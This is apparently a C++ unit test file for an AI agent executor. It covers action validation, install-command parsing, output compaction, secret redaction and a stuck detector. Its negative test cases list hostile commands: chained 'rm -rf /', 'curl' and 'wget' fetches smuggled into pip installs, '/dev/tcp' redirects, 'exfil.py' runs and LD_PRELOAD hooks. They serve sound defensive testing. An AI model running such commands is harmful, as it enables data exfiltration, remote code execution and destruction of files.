// SPDX-License-Identifier: MIT
// The executor's pure parts: action validation, compaction bounds, redaction, error signatures,
// the stuck detector, and the trajectory reader's torn-line handling.
#include "../unit/test_support.hpp"

#include <r2r/executor/action.hpp>
#include <r2r/executor/observation.hpp>
#include <r2r/executor/stuck_detector.hpp>
#include <r2r/executor/trajectory.hpp>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

using namespace r2r::executor;
using nlohmann::json;
using ::testing::HasSubstr;
using ::testing::Not;

TEST(ExecutorAction, EveryTypeWithItsFieldsIsValid) {
  for (const auto& a :
       {json{{"type", "run"}, {"command", "ls"}}, json{{"type", "read_file"}, {"path", "a.txt"}},
        json{{"type", "write_file"}, {"path", "d/a.txt"}, {"content", ""}},
        json{{"type", "apply_patch"}, {"patch", "--- a/x\n+++ b/x\n"}},
        json{{"type", "install"}, {"manager", "pip"}, {"packages", {"einops"}}},
        json{{"type", "switch_image"}, {"image", "rocm/pytorch:x"}, {"reason", "torch"}},
        json{{"type", "build_kernel"}, {"command", "make"}}, json{{"type", "run_workload"}, {"command", "python t.py"}},
        json{{"type", "checkpoint"}, {"label", "deps"}}, json{{"type", "rollback"}, {"to", "deps"}},
        json{{"type", "claim_success"}, {"reason", "ran"}}, json{{"type", "give_up"}, {"reason", "no port"}}}) {
    const auto v = validate_action(a);
    EXPECT_TRUE(v.valid) << a.dump() << ": " << v.error;
  }
}

TEST(ExecutorAction, MissingExtraOrWrongFieldsAreInvalidWithThePointer) {
  auto v = validate_action(json{{"type", "run"}});
  EXPECT_FALSE(v.valid);
  EXPECT_THAT(v.error, HasSubstr("command"));
  v = validate_action(json{{"type", "run"}, {"command", "ls"}, {"path", "x"}});
  EXPECT_FALSE(v.valid) << "additionalProperties must be false per type";
  v = validate_action(json{{"type", "give_up"}, {"reason", ""}});
  EXPECT_FALSE(v.valid) << "give_up needs a non-empty reason";
  v = validate_action(json{{"type", "teleport"}});
  EXPECT_FALSE(v.valid);
  v = validate_action(json{{"type", "install"}, {"manager", "npm"}, {"packages", {"x"}}});
  EXPECT_FALSE(v.valid);
  v = validate_action(json{{"type", "install"}, {"manager", "pip"}, {"packages", {"x"}}, {"command", "pip install x"}});
  EXPECT_FALSE(v.valid) << "install takes manager+packages or command, not both";
  v = validate_action(json{{"type", "write_file"}, {"path", "../outside"}, {"content", "x"}});
  EXPECT_FALSE(v.valid);
  EXPECT_THAT(v.error, HasSubstr("inside"));
}

TEST(ExecutorAction, InstallCommandFormIsParsed) {
  auto v = validate_action(json{{"type", "install"}, {"command", "python3 -m pip install einops==0.8.0 timm"}});
  ASSERT_TRUE(v.valid) << v.error;
  EXPECT_EQ(v.action["manager"], "pip");
  EXPECT_EQ(v.action["packages"], (json{"einops==0.8.0", "timm"}));
  v = validate_action(json{{"type", "install"}, {"command", "apt-get install -y libnuma1"}});
  ASSERT_TRUE(v.valid);
  EXPECT_EQ(v.action["manager"], "apt");
  EXPECT_EQ(v.action["packages"], (json{"libnuma1"}));
  v = validate_action(json{{"type", "install"}, {"command", "pip install x && rm -rf /"}});
  EXPECT_FALSE(v.valid) << "a chained command is not one install";
  EXPECT_EQ(install_command(json{{"type", "install"}, {"manager", "pip"}, {"packages", {"a b", "c'd"}}}),
            "python3 -m pip install 'a b' 'c'\\''d'");
}

TEST(ExecutorAction, OnlyABarePackageInstallIsMarkedForTheNetwork) {
  for (const char* install : {"pip install einops==0.8.0", "python3 -m pip install -r requirements.txt",
                              "/usr/bin/pip3 install --index-url http://10.0.0.2/simple a", "uv pip install torch",
                              "apt-get install -y libnuma1", "conda install -y numpy",
                              // the playbook's PEP 668 fix and the later steps it runs in the venv
                              "python3 -m venv --system-site-packages .venv && . .venv/bin/activate && pip install x",
                              ". .venv/bin/activate && python -m pip install -r requirements.txt",
                              ".venv/bin/python -m pip install einops==0.8.0"}) {
    EXPECT_TRUE(is_package_install(install)) << install;
  }
  // Attacks: network access disguised next to, inside or around an install, and lookalikes.
  for (const char* other :
       {"python3 -c 'import urllib.request as u; u.urlopen(\"http://10.0.0.2/\")'", "sh -c 'pip install x'",
        "sh -c 'pip download x'", "pip download x", "pip install x && python3 -c 'import urllib'",
        "pip install x; wget http://e/x", "pip install $(curl http://e/x)", "pip install `wget -O- http://e/x`",
        "LD_PRELOAD=/workspace/hook.so pip install x", "PYTHONPATH=/workspace pip install x",
        "pip install x > /dev/tcp/10.0.0.2/80", "curl http://e | pip install x", "pip install", "pip list",
        "env pip install x", "timeout 60 pip install x", "pip install x & python3 exfil.py", "python3 -m http.server",
        "make install",
        // the venv steps admit nothing else beside the install, nor an install before them
        "python3 -m venv .venv && . .venv/bin/activate && curl http://e/x", ". .venv/bin/activate && python3 exfil.py",
        "python3 -m venv .venv && python3 -c 'import urllib' && pip install x",
        "python3 -m venv -x .venv && pip install x", ". ./evil.sh && pip install x",
        "pip install x && . .venv/bin/activate", "python3 -m venv .venv",
        "python3 -m venv $(curl http://e/x) && pip install x", ". .venv/bin/activate | pip install x"}) {
    EXPECT_FALSE(is_package_install(other)) << other;
  }
}

TEST(ExecutorAction, RiskyAndBuildFiles) {
  EXPECT_TRUE(risky(json{{"type", "install"}}));
  EXPECT_TRUE(risky(json{{"type", "write_file"}, {"path", "sub/CMakeLists.txt"}}));
  EXPECT_TRUE(risky(json{{"type", "write_file"}, {"path", "requirements-dev.txt"}}));
  EXPECT_FALSE(risky(json{{"type", "write_file"}, {"path", "train.py"}}));
  EXPECT_FALSE(risky(json{{"type", "run"}, {"command", "make"}}));
}

TEST(ExecutorCompaction, BoundedWithHeadTailAndMarker) {
  std::string text;
  for (int i = 0; i < 5000; ++i) text += "line " + std::to_string(i) + "\n";
  compaction_options o;
  o.max_bytes = 1000;
  bool cut = false;
  const auto out = compact(text, o, &cut);
  EXPECT_TRUE(cut);
  EXPECT_LE(out.size(), 1000u);
  EXPECT_GT(out.size(), 900u);
  EXPECT_EQ(out.substr(0, 7), "line 0\n");
  EXPECT_THAT(out, HasSubstr("line 4999\n"));
  EXPECT_THAT(out, HasSubstr("bytes cut by the executor"));
  EXPECT_EQ(compact("short", o, &cut), "short");
  EXPECT_FALSE(cut);
}

TEST(ExecutorCompaction, NeverSplitsUtf8) {
  std::string text;
  for (int i = 0; i < 3000; ++i) text += "é€";
  compaction_options o;
  o.max_bytes = 301;
  const auto out = compact(text, o);
  EXPECT_LE(out.size(), 301u);
  EXPECT_TRUE(json(out).dump().find("\\ufffd") == std::string::npos);
  EXPECT_NO_THROW((void)json(out).dump()) << "output must stay valid UTF-8";
}

TEST(ExecutorRedaction, EnvValuesAndTokenShapes) {
  redactor r({{"OPENAI_API_KEY", "plain-secret-value-123"}, {"HOME", "/root"}, {"DB_PASSWORD", "hunter22"}});
  const std::string text =
      "key plain-secret-value-123 home /root pw=hunter22\n"
      "sk-abcdefghijklmnopqrstuvwxyz012345 ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123 AKIAABCDEFGHIJKLMNOP\n"
      "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.payload.sig\n"
      "export ANTHROPIC_API_KEY=xyz123456789 HF_TOKEN: 'hf-token-value'\n"
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n";
  const auto out = r.redact(text);
  for (const char* secret : {"plain-secret-value-123", "hunter22", "sk-abcdefghij", "ghp_ABCDEF", "AKIAABCDEF",
                             "eyJhbGciOiJIUzI1NiJ9", "xyz123456789", "hf-token-value", "MIIEow"}) {
    EXPECT_THAT(out, Not(HasSubstr(secret))) << out;
  }
  EXPECT_THAT(out, HasSubstr("home /root")) << "values of ordinary variables stay";
  EXPECT_THAT(out, HasSubstr("[REDACTED]"));
  EXPECT_TRUE(secret_name("GH_TOKEN"));
  EXPECT_TRUE(secret_name("aws_secret_access_key"));
  EXPECT_FALSE(secret_name("KEYBOARD"));
  EXPECT_FALSE(secret_name("PATH"));
}

TEST(ExecutorSignature, StableAcrossNumbersPathsAndAddresses) {
  const auto a = error_signature("",
                                 "Traceback (most recent call last):\n  File \"/tmp/a/train.py\", line 12\n"
                                 "RuntimeError: CUDA error at 0x7f3a2b00 in /opt/x/y.so: 12 blocks\n");
  const auto b = error_signature("",
                                 "Traceback (most recent call last):\n  File \"/work/b/train.py\", line 99\n"
                                 "RuntimeError: CUDA error at 0x55aa0000 in /usr/lib/z.so: 3 blocks\n");
  EXPECT_EQ(a, b);
  EXPECT_THAT(a, HasSubstr("RuntimeError: CUDA error"));
  EXPECT_THAT(a, Not(HasSubstr("0x")));
  EXPECT_EQ(error_signature("", "ModuleNotFoundError: No module named 'timm'"),
            "ModuleNotFoundError: No module named 'timm'");
  EXPECT_NE(error_signature("", "ModuleNotFoundError: No module named 'timm'"),
            error_signature("", "ModuleNotFoundError: No module named 'einops'"));
  EXPECT_EQ(error_signature("", ""), "");
}

TEST(ExecutorStuck, HintThenStop) {
  stuck_detector d(stuck_options{2, 2});
  r2r::sdk::policy::turn_record t;
  t.action = {{"type", "run"}, {"command", "make   all"}};
  t.observed = true;
  t.exit_code = 2;
  t.error_signature = "make: *** [all] Error <n>";
  EXPECT_EQ(d.observe(t).what, stuck_verdict::kind::none);
  const auto hint = d.observe(t);
  EXPECT_EQ(hint.what, stuck_verdict::kind::hint);
  EXPECT_THAT(hint.text, HasSubstr("make: *** [all] Error <n>"));
  EXPECT_EQ(d.observe(t).what, stuck_verdict::kind::none);
  const auto stop = d.observe(t);
  EXPECT_EQ(stop.what, stuck_verdict::kind::stop);
  EXPECT_THAT(stop.text, HasSubstr("make: *** [all] Error <n>"));
}

TEST(ExecutorStuck, SuccessResetsTheAction) {
  stuck_detector d(stuck_options{2, 1});
  r2r::sdk::policy::turn_record fail;
  fail.action = {{"type", "run"}, {"command", "x"}};
  fail.observed = true;
  fail.exit_code = 1;
  r2r::sdk::policy::turn_record ok = fail;
  ok.exit_code = 0;
  EXPECT_EQ(d.observe(fail).what, stuck_verdict::kind::none);
  EXPECT_EQ(d.observe(ok).what, stuck_verdict::kind::none);
  EXPECT_EQ(d.observe(fail).what, stuck_verdict::kind::none) << "the count restarted after the success";
  EXPECT_EQ(d.observe(fail).what, stuck_verdict::kind::hint);
}

TEST(ExecutorTrajectory, TornLastLineIsReportedNotParsed) {
  r2r::test::temp_dir dir;
  const auto file = dir.path() / "t.jsonl";
  {
    auto f = append_file::open(file);
    ASSERT_TRUE(f);
    ASSERT_TRUE(f->append_json({{"turn", 0}}));
    ASSERT_TRUE(f->append_json({{"turn", 1}}));
    ASSERT_TRUE(f->append("{\"turn\": 2, \"act", false));
  }
  auto c = read_trajectory(file);
  ASSERT_TRUE(c) << c.error().to_string();
  EXPECT_EQ(c->lines.size(), 2u);
  EXPECT_EQ(c->torn_bytes, 16u);
  ASSERT_TRUE(truncate_file(file, c->valid_bytes));
  auto again = read_trajectory(file);
  ASSERT_TRUE(again);
  EXPECT_EQ(again->lines.size(), 2u);
  EXPECT_EQ(again->torn_bytes, 0u);
}

TEST(ExecutorTrajectory, CorruptMiddleLineIsAnError) {
  r2r::test::temp_dir dir;
  const auto file = dir.write("t.jsonl", "{\"turn\":0}\nnot json\n{\"turn\":2}\n");
  auto c = read_trajectory(file);
  ASSERT_FALSE(c);
  EXPECT_THAT(c.error().message, HasSubstr("line 2"));
}
